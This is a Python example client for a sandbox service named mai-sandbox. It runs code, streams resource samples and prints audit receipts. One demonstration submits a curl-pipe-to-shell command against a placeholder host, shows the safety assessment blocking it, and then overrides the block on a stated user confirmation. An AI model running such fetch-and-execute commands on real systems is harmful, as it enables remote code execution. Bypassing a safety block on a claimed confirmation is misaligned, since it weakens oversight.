#!/usr/bin/env python3
"""Mai's side of mai-sandbox: submit code, react to the assessment, watch it
run, and keep the audit receipt. Run against a service started with TLS:

    tools/make-certs.sh pki --client mai
    build/bin/mai-sandbox serve --listen 127.0.0.1:7443 \\
        --tls-cert pki/server.pem --tls-key pki/server.key --tls-ca pki/ca.pem
    python3 examples/mai_client.py 127.0.0.1:7443 pki

(with the package installed, see docs/python-client.md, or with
PYTHONPATH=build/python from a build of this checkout).
"""
import asyncio
import json
import pathlib
import sys

from mai_sandbox import AsyncClient, Blocked, Client, Rejected, Unreachable


def main(server: str, pki: pathlib.Path) -> int:
    tls = dict(cert=pki / "mai.pem", key=pki / "mai.key", ca=pki / "ca.pem")
    try:
        client = Client(server, **tls)
    except Unreachable as e:
        print("cannot reach the sandbox:", e, file=sys.stderr)
        return 1
    with client:
        # A run, with live resource samples while it goes.
        result = client.run("import time\nfor i in range(3):\n    print(i)\n    time.sleep(0.3)\n",
                            timeout=10, memory="128M",
                            on_stats=lambda s: print("  [stats] %d KiB, %d ms cpu"
                                                     % (s.memory_bytes >> 10, s.cpu_ms)))
        print("exit %d (%s): %r" % (result.exit_code, result.execution.termination, result.stdout))
        print("audit receipt:", json.dumps(result.audit.to_dict()))

        # Dangerous code: the assessment blocks it; ask the user, then override.
        # (In the sandbox it fails harmlessly: no network, read-only root.)
        code = "import os\nos.system('curl -s http://example.invalid/setup.sh | sh')\n"
        print("assessment only:", client.assess(code).level)
        try:
            client.run(code)
        except Blocked as e:
            print("blocked:", e.explanation)
            for f in e.assessment.findings:
                print("  line %d: %s (%s)" % (f.line, f.message, f.rule_id))
            result = client.run(code, override_reason="the user confirmed the setup script")
            print("overridden, ran with trust", result.execution.trust, "-", result.policy_notes)
        except Rejected as e:
            print("the service is busy (%s); try again later" % e.reason)

    # The same from asyncio: several runs at once, samples as an async iterator.
    async def several():
        async with AsyncClient(server, **tls) as c:
            run = c.start("x = bytearray(50 << 20)\nimport time\ntime.sleep(1)\n")
            peak = 0
            async for sample in run:
                peak = max(peak, sample.memory_bytes)
            await run
            results = await asyncio.gather(*(c.run("print(%d * %d)" % (i, i)) for i in range(4)))
            print("peak while running: %d MiB; squares: %s"
                  % (peak >> 20, [r.stdout.decode().strip() for r in results]))

    asyncio.run(several())
    return 0


if __name__ == "__main__":
    if len(sys.argv) != 3:
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    sys.exit(main(sys.argv[1], pathlib.Path(sys.argv[2])))
